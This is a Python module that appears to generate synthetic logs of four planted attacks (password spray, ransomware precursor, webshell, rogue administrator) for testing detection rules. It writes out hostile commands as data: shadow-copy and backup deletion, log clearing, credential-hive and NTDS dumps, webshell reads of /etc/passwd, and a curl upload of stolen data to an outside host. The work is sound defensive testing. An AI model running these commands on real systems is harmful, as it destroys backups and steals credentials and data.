"""The four planted attacks, in the shapes of the public record, and which of our rules each should trigger.

``R`` and ``C`` numbers are those of the rule backlog.

- ``A1`` password spray (three communes, 09:40 to 11:15). Entra failures 50126, 50034, 50053 from four addresses of one /28,
  at least 12 names each in 30 minutes (C01), three communes from one /24 within the hour (C02); FortiGate VPN failures from
  one of them; then one success of a kiosk account over a legacy protocol (C03, R09, R52), mail read and a hiding rule (R46).
- ``A2`` ransomware precursor on SAU-FS01 (02:02 to 02:16). Tier-0 account from a user's network by remote desktop (R05);
  shadow copies, backup catalogue and recovery destroyed (C20's families); protection and backup services stopped (R21),
  Defender 5001; notes ``LISEZMOI_RESTAURER.txt`` in many folders (R44, C22); over 500 writes and deletions on more than
  20 folders within five minutes (C21); logs cleared (1102, 104; C18).
- ``A3`` webshell on que-web01 (22:05 to 23:05). WPScan probes, an upload, a script written below ``wp-content/uploads`` by
  the web server (R16), its first requests (R17), commands run by the web server's user (audit EXECVE, uid 33; C08).
- ``A4`` rogue administrator (03:18 to 03:55). Remote desktop on SIM-DC02 from a PC at Roncevelles; an account created (R04)
  and put into groups -512 and -544 (R01); audit policy cut (4719); registry hives and the directory saved; FortiGate log-in
  from outside the administrators' network (R18) and a super administrator added (R10); syslog of fw-ron redirected (R14,
  R18); electoral roll and civil registry exported (R56); Security log cleared (1102).
"""

from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import chain, cycle
from typing import Final

from correlator.harness.demo.cast import TOWNS, Agent, Town, computer
from correlator.harness.demo.cloud import Cloud
from correlator.harness.demo.network import Flow, Network
from correlator.harness.demo.stage import Record, Stage
from correlator.harness.demo.unix import WWW_DATA, Unix
from correlator.harness.demo.windows import DEFENDER, Windows

_FOREST_SID: Final = "S-1-5-21-1004336348-1177238915-682003330"
_CMD: Final = "C:\\Windows\\System32\\cmd.exe"


def _town(code: str) -> Town:
    return next(town for town in TOWNS if town.code == code)


# --- A1 -------------------------------------------------------------------------------------------------------------

_SPRAYERS: Final = ("198.51.100.17", "198.51.100.18", "198.51.100.19", "198.51.100.20")
_KIOSK: Final = "guichet.cor02@cor.example.org"


def play_spray(stage: Stage) -> Iterator[Record]:
    """Yield A1: one password tried once on each name, then the one account it fits."""
    cloud, network = Cloud(stage), Network(stage)
    names = [
        name for trio in zip(*(stage.cast.of_town(code)[:20] for code in ("BRP", "SAU", "COR")), strict=True) for name in trio
    ]
    for turn, address in enumerate(_SPRAYERS):
        tried = names[turn * 15 : turn * 15 + 15]
        for when, agent in zip(stage.burst(f"09:{40 + turn * 4}", len(tried), 1100), tried, strict=True):
            yield _sprayed(cloud, when, agent.upn, address)
    for when, agent in zip(stage.burst("10:22", 16, 1200), names, strict=False):
        yield network.vpn(when, "ssl-login-fail", agent.login, _SPRAYERS[0], reason="sslvpn_login_permission_denied")
    yield from _mailbox_taken(stage, cloud)


def _sprayed(cloud: Cloud, when: datetime, upn: str, address: str) -> Record:
    code = cloud.stage.rng.choices((50126, 50034, 50053), weights=(48, 4, 3))[0]
    agent = cloud.stage.rng.choice(("BAV2ROPC", "CBAInPROD", "CBAInPROD", "CBAInPROD"))
    return cloud.sign_in(when, upn, address, code, "Authenticated SMTP", agent, "NL", factors="singleFactorAuthentication")


def _mailbox_taken(stage: Stage, cloud: Cloud) -> Iterator[Record]:
    address, single = _SPRAYERS[1], "singleFactorAuthentication"
    yield _sprayed_success(cloud, stage.at("10:54"), address, single)
    for when in stage.burst("11:01", 32, 420):
        yield cloud.audit(when, _KIOSK, address, "MailItemsAccessed", "Exchange", ObjectId="")
    hiding = [
        {"Name": "Name", "Value": "."},
        {"Name": "SubjectOrBodyContainsWords", "Value": "facture;virement;RIB;hameçonnage"},
        {"Name": "MoveToFolder", "Value": "Flux RSS"},
        {"Name": "MarkAsRead", "Value": "True"},
    ]
    yield cloud.audit(
        stage.at("11:14"), _KIOSK, f"{address}:51234", "New-InboxRule", "Exchange", Parameters=hiding, RecordType=1
    )


def _sprayed_success(cloud: Cloud, when: datetime, address: str, factors: str) -> Record:
    return cloud.sign_in(when, _KIOSK, address, 0, "Authenticated SMTP", "BAV2ROPC", "NL", factors=factors)


# --- A2 -------------------------------------------------------------------------------------------------------------

_STOLEN: Final = ("t0.gmoreau", f"{_FOREST_SID}-1503")
_FOOTHOLD: Final = "10.12.40.77"
_NOTE: Final = "LISEZMOI_RESTAURER.txt"
_LOCKER: Final = "C:\\Windows\\Temp\\maj.exe"
_DESTRUCTION: Final = (
    "C:\\Windows\\System32\\vssadmin.exe delete shadows /all /quiet",
    "C:\\Windows\\System32\\wbem\\WMIC.exe shadowcopy delete /nointeractive",
    "C:\\Windows\\System32\\wbadmin.exe delete catalog -quiet",
    "C:\\Windows\\System32\\wbadmin.exe delete systemstatebackup -deleteOldest -quiet",
    "C:\\Windows\\System32\\bcdedit.exe /set {default} recoveryenabled No",
    "C:\\Windows\\System32\\bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
    'C:\\Windows\\System32\\net.exe stop "VeeamBackupSvc" /y',
    'C:\\Windows\\System32\\net.exe stop "MSSQL$FINANCES" /y',
    "C:\\Windows\\System32\\sc.exe config WinDefend start= disabled",
)
_STOPPED: Final = (
    ("Veeam Backup Service", "VeeamBackupSvc"),
    ("HarfangLab Hurukai agent", "hurukai"),
    ("Sysmon64", "Sysmon64"),
)
_SHARES: Final = tuple(
    f"{service}\\{folder}"
    for service in ("EtatCivil", "RH", "Finances", "Scolaire", "Urbanisme", "Courrier")
    for folder in ("2022", "2023", "2024", "2025", "2026")
)


def play_ransomware(stage: Stage) -> Iterator[Record]:
    """Yield A2: recovery destroyed, protection stopped, then the files of one commune's server."""
    windows, server = Windows(stage), _town("SAU").file_server
    user = f"SIM9\\{_STOLEN[0]}"
    yield windows.logon(stage.at("02:02:11"), server, _STOLEN[0], _FOOTHOLD, 10, _STOLEN[1])
    for number, command in enumerate(_DESTRUCTION):
        yield windows.process(stage.at("02:06") + timedelta(seconds=7 * number), server, user, _CMD, command)
    for number, (shown, name) in enumerate(_STOPPED):
        yield windows.service(stage.at("02:07:20") + timedelta(seconds=9 * number), server, shown, name, running=False)
    product = {"Product Name": "Antivirus Microsoft Defender", "Product Version": "4.18.25090.3009"}
    yield windows.event(stage.at("02:07:58"), server, DEFENDER, 5001, product)
    yield windows.process(stage.at("02:08:30"), server, user, _CMD, f"{_LOCKER} -p D:\\Partages -t 8")
    yield from _encrypted(stage, windows, server, user)
    yield from _traces_removed(windows, server, user)


def _encrypted(stage: Stage, windows: Windows, server: str, user: str) -> Iterator[Record]:
    folders = cycle(_SHARES)
    for when in stage.burst("02:09", 270, 240):
        path = f"{next(folders)}\\dossier-{stage.rng.randrange(900)}.docx"
        yield windows.share(when, server, _STOLEN[0], _FOOTHOLD, "Services", path, "%%1537")
        yield windows.share(
            when + timedelta(milliseconds=40), server, _STOLEN[0], _FOOTHOLD, "Services", f"{path}.b4x", "%%4417"
        )
    for when, folder in zip(stage.burst("02:09:20", len(_SHARES), 200), _SHARES, strict=True):
        target = f"D:\\Partages\\Services\\{folder}\\{_NOTE}"
        created = f"{when:%Y-%m-%d %H:%M:%S}.000"
        yield windows.sysmon(when, server, 11, user, _LOCKER, TargetFilename=target, CreationUtcTime=created)
        yield windows.share(when, server, _STOLEN[0], _FOOTHOLD, "Services", f"{folder}\\{_NOTE}", "%%4417")


def _traces_removed(windows: Windows, server: str, user: str) -> Iterator[Record]:
    for number, log in enumerate(("Security", "System")):
        when = windows.stage.at("02:15") + timedelta(seconds=12 * number)
        yield windows.process(when, server, user, _CMD, f"C:\\Windows\\System32\\wevtutil.exe cl {log}")
        yield windows.cleared(when + timedelta(seconds=1), server, *_STOLEN, log)


# --- A3 -------------------------------------------------------------------------------------------------------------

_INTRUDER: Final = "198.51.100.84"
_SHELL: Final = "/wp-content/uploads/2026/11/logo.php"
_PLUGINS: Final = ("formulaire", "agenda", "galerie", "newsletter", "carte", "cantine", "plan-site", "cookies")
_COMMANDS: Final = ("whoami", "id", "uname -a", "cat /var/www/html/wp-config.php", "ip a", "ls -la /home", "cat /etc/passwd")
_SCANNER_AGENT: Final = "WPScan v3.8.28 (https://wpscan.example/)"
_BROWSER: Final = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def play_webshell(stage: Stage) -> Iterator[Record]:
    """Yield A3: probes, an upload, a script that runs commands for whoever asks."""
    network, unix, town = Network(stage), Unix(stage), _town("QUE")
    for when in stage.burst("22:05", 90, 1500):
        probe = f"GET /wp-content/plugins/{stage.rng.choice(_PLUGINS)}-{stage.rng.randrange(90)}/readme.txt"
        yield network.web(when, town, _INTRUDER, probe, 404, 162, _SCANNER_AGENT)
    yield network.web(stage.at("22:34:02"), town, _INTRUDER, "POST /wp-admin/admin-ajax.php?action=upload", 200, 61, _BROWSER)
    yield from unix.created(stage.at("22:34:02"), "que-web01", f"/var/www/html{_SHELL}", exe="/usr/sbin/apache2", euid=WWW_DATA)
    yield network.web(stage.at("22:36:10"), town, _INTRUDER, f"GET {_SHELL}?c=whoami", 200, 17, _BROWSER)
    yield network.web(stage.at("22:36:41"), town, _INTRUDER, f"GET {_SHELL}?cmd=cat%20/etc/passwd", 200, 1841, _BROWSER)
    for when in stage.burst("22:37", 38, 1500):
        yield network.web(when, town, _INTRUDER, f"POST {_SHELL}", 200, stage.rng.randrange(200, 900), _BROWSER)
    yield from chain.from_iterable(_commands(stage, unix))
    yield network.passed(stage.at("23:04:30"), town, Flow("10.16.20.11", "198.51.100.90", 443, 48_211_004, 9_120), "serveurs")


def _commands(stage: Stage, unix: Unix) -> Iterator[Iterator[Record]]:
    for when, command in zip(stage.burst("22:36:10", len(_COMMANDS), 900), _COMMANDS, strict=True):
        yield unix.executed(when, "que-web01", ["sh", "-c", command], exe="/usr/bin/dash", euid=WWW_DATA, parent=811)
        program = command.split(" ")
        exe = f"/usr/bin/{program[0]}"
        yield unix.executed(when + timedelta(milliseconds=3), "que-web01", program, exe=exe, euid=WWW_DATA, parent=812)
    theft = ["curl", "-s", "-F", "file=@/tmp/d.gz", "http://198.51.100.90/depot"]
    yield unix.executed(stage.at("23:04:28"), "que-web01", theft, exe="/usr/bin/curl", euid=WWW_DATA, parent=812)


# --- A4 -------------------------------------------------------------------------------------------------------------

_ROGUE: Final = ("adm.rlegal", f"{_FOREST_SID}-1611")
_HIS_PC: Final = "10.17.40.61"
_NEW_ACCOUNT: Final = "svc-maj2"
_SAVED: Final = (
    "C:\\Windows\\System32\\reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s1.hiv",
    "C:\\Windows\\System32\\reg.exe save HKLM\\SECURITY C:\\Windows\\Temp\\s2.hiv",
    "C:\\Windows\\System32\\reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\s3.hiv",
    'C:\\Windows\\System32\\ntdsutil.exe "ac i ntds" ifm "create full C:\\Windows\\Temp\\n" q q',
)
_UNAUDITED: Final = ("{0CCE922B-69AE-11D9-BED3-505054503030}", "{0CCE9215-69AE-11D9-BED3-505054503030}")


def play_rogue(stage: Stage) -> Iterator[Record]:
    """Yield A4: an administrator who gives himself a second life at night."""
    windows, controller = Windows(stage), computer("SIM-DC02")
    yield windows.logon(stage.at("03:18:40"), controller, _ROGUE[0], _HIS_PC, 10, _ROGUE[1])
    yield from _second_account(windows, controller)
    for number, guid in enumerate(_UNAUDITED):
        changed = {
            "CategoryId": "%%8274",
            "SubcategoryId": "%%13312",
            "SubcategoryGuid": guid,
            "AuditPolicyChanges": "%%8448, %%8450",
        }
        yield windows.account(stage.at("03:24") + timedelta(seconds=4 * number), controller, 4719, _ROGUE, **changed)
    for number, command in enumerate(_SAVED):
        yield windows.process(
            stage.at("03:26") + timedelta(seconds=15 * number), controller, f"SIM9\\{_ROGUE[0]}", _CMD, command
        )
    yield from _firewalls_opened(Network(stage))
    yield from _registers_taken(Cloud(stage))
    clearing = "C:\\Windows\\System32\\wevtutil.exe cl Security"
    yield windows.process(stage.at("03:54:50"), controller, f"SIM9\\{_ROGUE[0]}", _CMD, clearing)
    yield windows.cleared(stage.at("03:54:51"), controller, *_ROGUE)


def _second_account(windows: Windows, controller: str) -> Iterator[Record]:
    new_sid = f"{_FOREST_SID}-9802"
    created = {"TargetUserName": _NEW_ACCOUNT, "TargetDomainName": "SIM9", "TargetSid": new_sid, "SamAccountName": _NEW_ACCOUNT}
    yield windows.account(windows.stage.at("03:21:03"), controller, 4720, _ROGUE, **created)
    yield windows.account(windows.stage.at("03:21:04"), controller, 4722, _ROGUE, **created)
    member = {"MemberName": f"CN={_NEW_ACCOUNT},CN=Users,DC=ad,DC=sim9,DC=example", "MemberSid": new_sid}
    admins = {"TargetUserName": "Admins du domaine", "TargetDomainName": "SIM9", "TargetSid": f"{_FOREST_SID}-512"}
    yield windows.account(windows.stage.at("03:21:30"), controller, 4728, _ROGUE, **member, **admins)
    local = {"TargetUserName": "Administrateurs", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"}
    yield windows.account(windows.stage.at("03:22:02"), controller, 4732, _ROGUE, **member, **local)


def _firewalls_opened(network: Network) -> Iterator[Record]:
    ui = f"https({_HIS_PC})"
    login = {"srcip": _HIS_PC, "dstip": "10.10.99.1", "action": "login", "status": "success", "method": "https"}
    yield network.administration(network.stage.at("03:31:10"), "0100032001", "Admin login successful", _ROGUE[0], ui, **login)
    added = {"action": "Add", "cfgpath": "system.admin", "cfgobj": "maintenance2", "cfgattr": "accprofile[super_admin]"}
    yield network.administration(
        network.stage.at("03:32:05"), "0100044547", "Object attribute configured", _ROGUE[0], ui, **added
    )
    for clock, command in (
        ("03:34:20", "CONFIG COMMUNICATION SYSLOG PROFILE UPDATE index=1 state=0"),
        ("03:34:31", "CONFIG ACTIVATE"),
    ):
        fields: dict[str, str | int] = {"error": 0, "user": "admin", "address": _HIS_PC, "sessionid": 18, "msg": command}
        yield network.stormshield(network.stage.at(clock), _town("RON"), "server", fields)


def _registers_taken(cloud: Cloud) -> Iterator[Record]:
    agent = Agent("r.legal", _town("RON"), "RON-PC0061", _HIS_PC, _HIS_PC, _ROGUE[1])
    for clock, app, object_type, count in (
        ("03:40:12", "elections", "electeur", 11_204),
        ("03:43:50", "etat-civil", "acte_naissance", 18_450),
        ("03:46:02", "etat-civil", "acte_deces", 9_310),
    ):
        many = {"object_id": None, "object_count": count, "reason": None, "user_role": "admin"}
        yield cloud.consulted(cloud.stage.at(clock), agent, app, "export", object_type, **many)
